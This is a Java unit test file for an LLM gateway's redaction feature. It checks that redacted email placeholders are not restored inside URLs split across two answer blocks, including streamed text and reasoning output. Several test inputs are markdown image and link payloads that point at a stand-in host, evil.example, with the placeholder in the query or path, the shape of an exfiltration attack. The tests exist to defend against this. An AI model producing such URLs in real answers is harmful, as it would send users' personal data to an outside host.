package io.llmgw.core.redact;

import static org.assertj.core.api.Assertions.assertThat;

import io.llmgw.api.ChatStream;
import io.llmgw.api.LlmClient;
import io.llmgw.api.event.LlmEvent;
import io.llmgw.api.event.ReasoningDelta;
import io.llmgw.api.event.TextDelta;
import io.llmgw.api.redact.EntitySets;
import io.llmgw.api.redact.Redaction;
import io.llmgw.api.response.ChatResponse;
import io.llmgw.api.response.FinishReason;
import io.llmgw.test.scripted.ScriptedProvider;
import java.time.Duration;
import java.util.function.BiFunction;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A URL is one to whoever joins the blocks of an answer, in whichever block it begins. */
class JoinedBlocksTest {
  private static final String VALUE = "ada@example.com";

  private final ScriptedProvider fake = ScriptedProvider.named("fake");
  private final LlmClient llm =
      LlmClient.builder()
          .provider(fake)
          .defaultModel(fake.model())
          .use(Redaction.of(EntitySets.CONTACT).budget(Duration.ofMinutes(1)))
          .build();

  @AfterEach
  void close() {
    llm.close();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/?q=<EMAIL_1>)",
        "<img src=\"/p?a <EMAIL_1>\">",
        "[r]: <//evil.example/a <EMAIL_1>>",
        "https&colon;//evil.example/<EMAIL_1>",
        "![x](https://evil.example/?[b=<EMAIL_1>)"
      })
  void nothingIsRestoredInAUrlThatIsCutOverTwoBlocks(String answer) {
    for (int at = 0; at <= answer.length(); at++) {
      String first = answer.substring(0, at);
      String second = answer.substring(at);

      assertThat(text(first, second)).as("cut at %d", at).isEqualTo(answer);
      assertThat(streamedText(first, second)).as("cut at %d", at).isEqualTo(answer);
      assertThat(reasoning(first, second)).as("cut at %d", at).isEqualTo(answer);
    }
  }

  @Test
  void aValueInPlainTextOfTheSecondBlockIsRestored() {
    String first = "See https://x.example";
    String second = " or ask <EMAIL_1>.";
    String expected = "See https://x.example or ask " + VALUE + ".";

    assertThat(text(first, second)).isEqualTo(expected);
    assertThat(streamedText(first, second)).isEqualTo(expected);
    assertThat(reasoning(first, second)).isEqualTo(expected);
  }

  @Test
  void textAndThoughtsAreNotJoined() {
    fake.answers(
        script ->
            script
                .events(new ReasoningDelta(0, "https://x.example/"), new TextDelta(1, "<EMAIL_1>"))
                .completed(FinishReason.STOP));

    assertThat(llm.prompt("ask " + VALUE).text()).isEqualTo(VALUE);
  }

  /** What was held back of a block comes before the next one, which it is joined to. */
  @Test
  void aStreamKeepsTheOrderOfItsBlocks() {
    assertThat(streamedText("a <EMA", "nd so on")).isEqualTo("a <EMAnd so on");
  }

  private String text(String first, String second) {
    answers(TextDelta::new, first, second);
    return llm.prompt("ask " + VALUE).text();
  }

  private String streamedText(String first, String second) {
    answers(TextDelta::new, first, second);
    StringBuilder all = new StringBuilder();
    try (ChatStream stream = llm.prompt("ask " + VALUE).stream()) {
      stream.text().forEach(all::append);
    }
    return all.toString();
  }

  private String reasoning(String first, String second) {
    answers(ReasoningDelta::new, first, second);
    ChatResponse answer = llm.prompt("ask " + VALUE).send();
    return answer.reasoning();
  }

  private void answers(BiFunction<Integer, String, LlmEvent> piece, String first, String second) {
    fake.answers(
        script ->
            script
                .events(piece.apply(0, first), piece.apply(1, second))
                .completed(FinishReason.STOP));
  }
}
